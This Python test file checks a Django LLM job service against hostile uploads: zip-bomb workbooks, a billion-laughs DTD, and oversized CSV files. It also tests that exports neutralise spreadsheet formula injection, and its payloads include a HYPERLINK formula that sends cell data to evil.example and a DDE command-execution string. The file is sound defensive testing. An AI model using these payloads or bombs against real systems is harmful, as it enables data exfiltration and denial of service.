"""Uploads and exports as an attacker sends them: hostile workbooks (a declared dimension of the whole sheet, zip
bombs of a sheet and of sharedStrings.xml, a million empty rows, a string repeated in every row) and CSV files, and
results whose text a spreadsheet would run as a formula or that XLSX cannot hold. Asserts the status, the JSON
error, that no job was created, that the service still answers, and the memory a worker needs."""

import csv
import io
import zipfile

import pytest
from django.test import Client
from openpyxl import Workbook, load_workbook

from bench import workbook as hostile
from jobs import services
from jobs.models import Job, JobItem
from llm.models import UsageRecord
from tests.test_jobs import JOBS, create, run

pytestmark = pytest.mark.django_db


@pytest.fixture
def queued(monkeypatch):
    ids: list[str] = []
    monkeypatch.setattr(services, "job_enqueue", lambda *, job_id: ids.append(str(job_id)))
    return ids


@pytest.fixture
def client(token, gateway_settings, prices, queued, settings):
    settings.JOB_CONCURRENCY = 4
    return Client(HTTP_AUTHORIZATION=f"Bearer {token[1]}")


@pytest.fixture
def model_says(fake_upstream):
    """The fake upstream answers each prompt with what the test maps it to."""
    answers: dict[str, str] = {}

    def reply(body):
        text = [m for m in body["messages"] if m["role"] == "user"][-1]["content"]
        return next((answer for prompt, answer in answers.items() if prompt in text), "fine")

    fake_upstream.configure(reply=reply)
    return answers


def upload(data: bytes, name: str) -> io.BytesIO:
    f = io.BytesIO(data)
    f.name = name
    return f


def post_file(client, capture, data: bytes, name: str = "hostile.xlsx", **fields):
    return create(client, capture, data={"file": upload(data, name), "column": "Comment", **fields})


def assert_still_answers(client, capture):
    ok = post_file(client, capture, b"Comment\nstill here\n", "ok.csv")
    assert ok.status_code == 202, ok.content
    assert ok.json()["total"] == 1


# ---- Hostile workbooks ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("build", "limit"),
    [
        (lambda: hostile.sheet_bomb(0.25), None),  # 256 MB of XML from 256 KB
        (lambda: hostile.shared_strings_bomb(0.25), None),
        (lambda: hostile.repeated_long_string(5_000), None),  # 160 M characters of prompts from 30 KB
        (lambda: hostile.sheet_bomb(0.01), 1_000_000),  # the setting is what counts
    ],
    ids=["sheet_bomb", "shared_strings_bomb", "repeated_long_string", "setting"],
)
def test_a_workbook_that_decompresses_past_the_limit_is_a_413(
    client, django_capture_on_commit_callbacks, settings, queued, build, limit
):
    if limit is not None:
        settings.JOB_UPLOAD_MAX_UNCOMPRESSED_BYTES = limit
    data = build()
    assert len(data) < settings.JOB_UPLOAD_MAX_BYTES
    response = post_file(client, django_capture_on_commit_callbacks, data)
    assert response.status_code == 413, response.content
    error = response.json()["error"]
    limit = settings.JOB_UPLOAD_MAX_UNCOMPRESSED_BYTES
    assert error["code"] == "workbook_too_large"
    assert f"JOB_UPLOAD_MAX_UNCOMPRESSED_BYTES={limit}" in error["message"]
    assert error["details"]["limit"] == limit and error["request_id"]
    assert Job.objects.count() == 0 and JobItem.objects.count() == 0 and queued == []
    assert_still_answers(client, django_capture_on_commit_callbacks)


def test_a_declared_dimension_of_the_whole_sheet_reads_only_its_cells(
    client, model_says, django_capture_on_commit_callbacks
):
    response = post_file(client, django_capture_on_commit_callbacks, hostile.declared_dimension())
    assert response.status_code == 202, response.content
    job_id = response.json()["id"]
    assert [item.ref for item in JobItem.objects.filter(job_id=job_id)] == [2, 3, 4, 5]
    run(job_id)
    xlsx = client.get(f"{JOBS}/{job_id}/results?format=xlsx")
    sheet = load_workbook(io.BytesIO(xlsx.content)).active
    assert sheet["B1"].value == "djllm custom" and sheet["B5"].value == "fine"
    assert sheet["A5"].value == "comment 5"


def test_a_million_empty_rows_cost_no_memory_and_still_find_the_last_row(
    client, model_says, django_capture_on_commit_callbacks
):
    response = post_file(client, django_capture_on_commit_callbacks, hostile.empty_rows(300_000))
    assert response.status_code == 202, response.content
    assert [item.ref for item in JobItem.objects.all()] == [300_002]


def test_shared_strings_rich_text_and_values_read_as_excel_shows_them(
    client, model_says, django_capture_on_commit_callbacks
):
    """A workbook as Excel writes it: shared strings (rich-text runs, phonetic runs that are not text, `_x000D_`
    escapes), numbers, booleans, a formula's cached string, cells without references, and a prefixed namespace."""
    main = hostile._MAIN
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><x:worksheet xmlns:x="{main}"><x:dimension ref="A1:C9"/><x:sheetData>'
        '<x:row r="1"><x:c r="A1" t="s"><x:v>0</x:v></x:c><x:c r="B1" t="s"><x:v>1</x:v></x:c></x:row>'
        '<x:row r="2"><x:c r="A2"><x:v>7</x:v></x:c><x:c r="B2" t="s"><x:v>2</x:v></x:c></x:row>'
        '<x:row r="3"><x:c r="B3" t="s"><x:v>3</x:v></x:c></x:row>'
        "<x:row><x:c/><x:c><x:v>12.50</x:v></x:c></x:row>"  # row 4, column B: no references
        '<x:row r="6"><x:c r="B6" t="b"><x:v>1</x:v></x:c></x:row>'
        '<x:row r="7"><x:c r="B7" t="str"><x:f>A2&amp;"x"</x:f><x:v>7x</x:v></x:c></x:row>'
        '<x:row r="8"><x:c r="B8" t="s"><x:v>4</x:v></x:c></x:row>'
        '<x:row r="9"><x:c r="B9" t="s"><x:v>2</x:v></x:c></x:row>'
        "</x:sheetData></x:worksheet>"
    )
    strings = (
        f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{main}"><si><t>Name</t></si><si><t>Comment</t></si>'
        '<si><r><rPr><b/></rPr><t>Bold</t></r><r><t xml:space="preserve"> and plain</t></r></si>'
        '<si><t>\u6771\u4eac</t><rPh sb="0" eb="2"><t>\u30c8\u30a6\u30ad\u30e7\u30a6</t></rPh></si>'
        "<si><t>line_x000D_break</t></si></sst>"
    )
    data = hostile._package([sheet], [strings])
    response = post_file(client, django_capture_on_commit_callbacks, data)
    assert response.status_code == 202, response.content
    items = [(i.ref, i.prompt) for i in JobItem.objects.order_by("position")]
    assert items == [
        (2, "Bold and plain"),
        (3, "\u6771\u4eac"),
        (4, "12.5"),
        (6, "True"),
        (7, "7x"),
        (8, "line\rbreak"),
        (9, "Bold and plain"),
    ]
    job_id = response.json()["id"]
    run(job_id)
    result = load_workbook(io.BytesIO(client.get(f"{JOBS}/{job_id}/results?format=xlsx").content)).active
    assert result["C1"].value == "djllm custom" and result["C4"].value == "fine" and result["C5"].value is None


def test_the_row_limit_stops_reading_the_column(client, django_capture_on_commit_callbacks, settings):
    settings.JOB_MAX_ITEMS = 100
    response = post_file(client, django_capture_on_commit_callbacks, hostile.repeated_long_string(5_000))
    assert response.status_code == 400
    error = response.json()["error"]
    assert error["code"] == "too_many_items" and "JOB_MAX_ITEMS=100" in error["message"]
    assert Job.objects.count() == 0


def _recompressed(data: bytes, method: int) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", method) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
    return out.getvalue()


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"PK\x05\x06" + b"\x00" * 18, "missing part xl/workbook.xml"),
        (_recompressed(hostile.declared_dimension(), zipfile.ZIP_BZIP2), "compression method"),
        (_recompressed(hostile.declared_dimension(), zipfile.ZIP_LZMA), "compression method"),
    ],
    ids=["empty_zip", "bzip2", "lzma"],
)
def test_archives_excel_never_writes_are_400s(client, django_capture_on_commit_callbacks, data, reason):
    # bzip2 and LZMA parts decompress without an output bound in zipfile: refused before anything is read
    response = post_file(client, django_capture_on_commit_callbacks, data)
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "invalid_file" and reason in response.json()["error"]["message"]
    assert Job.objects.count() == 0


def test_a_dtd_in_a_workbook_part_is_refused(client, django_capture_on_commit_callbacks):
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]>'
        f'<worksheet xmlns="{hostile._MAIN}"><sheetData>{hostile._inline(1, "Comment")}'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>&lol2;</t></is></c></row></sheetData></worksheet>'
    )
    response = post_file(client, django_capture_on_commit_callbacks, hostile._package([laughs]))
    assert response.status_code == 400 and response.json()["error"]["code"] == "invalid_file"
    assert "DTD" in response.json()["error"]["message"]


@pytest.mark.parametrize(
    "name",
    [
        "declared_dimension",
        "empty_rows",
        "sheet_bomb",
        "shared_strings_bomb",
        "unused_shared_strings",
        "repeated_long_string",
        "long_prompts",
    ],
)
def test_reading_and_writing_back_a_hostile_workbook_stays_under_100_mb(tmp_path, name):
    """In a fresh process: read the column as an upload does, then write the results workbook as a download does;
    peak resident memory (or, where it cannot be measured, Python's allocations) over the warmed-up baseline."""
    build = {"empty_rows": lambda: hostile.empty_rows(300_000)}.get(name, hostile.CASES[name])
    measured = hostile.measure(name, build(), tmp_path)
    assert hostile.peak_mb(measured) < 100, measured
    expected = {
        "declared_dimension": ("read", 4),
        "empty_rows": ("read", 1),
        "sheet_bomb": (413, None),
        "shared_strings_bomb": (413, None),
        "unused_shared_strings": ("read", 1),
        "repeated_long_string": (413, None),
        "long_prompts": ("read", 600),
    }[name]
    assert (measured["status"], measured.get("rows")) == expected, measured
    if measured["status"] == "read":
        assert measured["results_bytes"] > 0


# ---- CSV ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (b"Comment," + b"ab," * 400_000 + b"\nhello\n", "longer than 1000000 characters"),  # millions of fields
        (b'Comment\n"' + b"x" * 200_000 + b'"\n', "field larger than field limit"),
    ],
    ids=["wide_record", "field_over_csv_limit"],
)
def test_csv_files_that_break_the_csv_module_are_400s(client, django_capture_on_commit_callbacks, data, message):
    response = post_file(client, django_capture_on_commit_callbacks, data, "hostile.csv")
    assert response.status_code == 400, response.content
    assert response.json()["error"]["code"] == "invalid_file" and message in response.json()["error"]["message"]
    assert Job.objects.count() == 0
    assert_still_answers(client, django_capture_on_commit_callbacks)


def test_csv_reads_only_the_column_and_stops_at_the_limit(client, django_capture_on_commit_callbacks, settings):
    settings.JOB_MAX_ITEMS = 2
    data = b"Other;Comment\n" + b"x;\n" * 1000 + b"a;one\nb;two\n"
    response = post_file(client, django_capture_on_commit_callbacks, data, "ok.csv")
    assert response.status_code == 202 and response.json()["total"] == 2
    assert [i.ref for i in JobItem.objects.order_by("position")] == [1002, 1003]
    too_many = post_file(client, django_capture_on_commit_callbacks, data + b"c;three\n", "big.csv")
    assert too_many.status_code == 400 and too_many.json()["error"]["code"] == "too_many_items"


# ---- Exports -----------------------------------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"click")',
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_results_never_hold_a_formula(client, model_says, django_capture_on_commit_callbacks):
    items = [{"id": f"r{i}", "prompt": f"prompt {i}"} for i in range(len(FORMULAS))]
    for i, formula in enumerate(FORMULAS):
        model_says[f"prompt {i}"] = formula
    items.append({"id": "=cmd|' /C calc'!A0", "prompt": "=1+2"})
    job_id = create(client, django_capture_on_commit_callbacks, {"items": items}).json()["id"]
    run(job_id)
    content = client.get(f"{JOBS}/{job_id}/results?format=csv").content.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(content)))
    results = [row[3] for row in table[1 : len(FORMULAS) + 1]]
    assert results == ["'" + f for f in FORMULAS]
    last = table[-1]
    assert (last[0], last[1]) == ("'=cmd|' /C calc'!A0", "'=1+2")
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in table for cell in row)


def _xlsx_cells(content: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows() for cell in row]


def test_xlsx_results_are_string_cells_without_characters_xlsx_cannot_hold(
    client, model_says, django_capture_on_commit_callbacks
):
    model_says["a"] = FORMULAS[0]
    model_says["b"] = "bell\x07 and escape\x1b and nul\x00 and \ufffe kept: tab\tnewline\n"
    items = [{"id": "=1+1", "prompt": "a"}, {"id": "b", "prompt": "b"}, {"id": "c", "prompt": "=SUM(1)"}]
    job_id = create(client, django_capture_on_commit_callbacks, {"items": items}).json()["id"]
    run(job_id)
    response = client.get(f"{JOBS}/{job_id}/results?format=xlsx")
    assert response.status_code == 200, response.content
    cells = {cell.coordinate: cell for cell in _xlsx_cells(response.content)}
    assert cells["A2"].value == "=1+1" and cells["A2"].data_type == "s"
    assert cells["D2"].value == FORMULAS[0] and cells["D2"].data_type == "s"
    assert cells["D3"].value == "bell and escape and nul and  kept: tab\tnewline\n"
    assert cells["B4"].value == "=SUM(1)" and cells["B4"].data_type == "s"
    assert not [c for c in cells.values() if c.data_type == "f"]


def test_uploaded_workbook_results_are_string_cells(client, model_says, django_capture_on_commit_callbacks):
    model_says["first"] = FORMULAS[0]
    model_says["second"] = "ctrl\x01\x02 gone _x0041_ literal"
    workbook = Workbook()
    sheet = workbook.active
    for row in (["Comment", "Note"], ["first", "keep"], ["second", "=1+1"]):
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    job_id = post_file(client, django_capture_on_commit_callbacks, out.getvalue(), "book.xlsx").json()["id"]
    run(job_id)
    response = client.get(f"{JOBS}/{job_id}/results?format=xlsx")
    assert response.status_code == 200
    result = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in result[1]] == ["Comment", "Note", "djllm custom"]
    assert result["C2"].value == FORMULAS[0] and result["C2"].data_type == "s"
    # Excel reads `_x0041_` as "A": the result escapes the underscore so the text stays as the model wrote it.
    assert result["C3"].value == "ctrl gone _x005F_x0041_ literal" and result["C3"].data_type == "s"
    assert result["B3"].data_type == "f"  # the user's own formula is left as it was
    assert UsageRecord.objects.filter(status="ok").count() == 2


def test_nul_characters_in_ids_cells_and_answers_are_dropped_not_a_500(
    client, model_says, django_capture_on_commit_callbacks
):
    # PostgreSQL's text and jsonb cannot hold NUL: a job holding one used to fail its INSERT (a 500) or its row.
    model_says["second"] = "an answer\x00 with NUL"
    body = {"items": [{"id": "a\x00b", "prompt": "first\x00 row"}, {"id": 2, "prompt": "second"}]}
    response = create(client, django_capture_on_commit_callbacks, body)
    assert response.status_code == 202, response.content
    job_id = response.json()["id"]
    assert [(i.ref, i.prompt) for i in JobItem.objects.order_by("position")] == [("ab", "first row"), (2, "second")]
    run(job_id)
    results = client.get(f"{JOBS}/{job_id}/results").json()["results"]
    assert [(r["id"], r["status"], r["result"]) for r in results][1] == (2, "ok", "an answer with NUL")
    assert UsageRecord.objects.filter(status="ok").count() == 2

    csv_upload = post_file(client, django_capture_on_commit_callbacks, b"Comment\nhel\x00lo\n", "nul.csv")
    assert csv_upload.status_code == 202, csv_upload.content
    assert JobItem.objects.get(job_id=csv_upload.json()["id"]).prompt == "hello"


def test_results_go_into_a_sheet_without_a_header_row_or_column_widths(
    client, model_says, django_capture_on_commit_callbacks
):
    """Rows 2 and 3 only, no <cols>: the header row is added in order, the width before <sheetData>."""
    sheet = [
        hostile._HEAD,
        "<sheetData>",
        hostile._inline(2, "two"),
        '<row r="3"/>',
        hostile._inline(4, "four"),
        "</sheetData></worksheet>",
    ]
    response = post_file(client, django_capture_on_commit_callbacks, hostile._package(sheet), column="A")
    assert response.status_code == 202, response.content
    run(response.json()["id"])
    content = client.get(f"{JOBS}/{response.json()['id']}/results?format=xlsx").content
    result = load_workbook(io.BytesIO(content)).active
    assert [[c.value for c in row] for row in result.iter_rows()] == [
        [None, "djllm custom"],
        ["two", "fine"],
        [None, None],
        ["four", "fine"],
    ]
    assert result.column_dimensions["B"].width == 40
